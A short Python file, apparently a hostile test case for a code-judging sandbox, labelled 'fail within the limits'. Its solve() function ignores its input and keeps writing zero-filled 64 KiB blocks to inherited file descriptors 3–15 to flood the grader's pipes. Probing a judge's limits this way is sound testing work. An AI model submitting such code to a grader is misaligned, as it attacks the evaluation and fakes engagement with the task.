"""floods the pipes with frames of length 0, which cost the reader work and fill nothing | fail within the limits"""
import os


def solve(xs):
    nothing = bytes(65536)
    live = set(range(3, 16))
    while live:
        for fd in list(live):
            try:
                os.write(fd, nothing)
            except OSError:
                live.discard(fd)
    return None
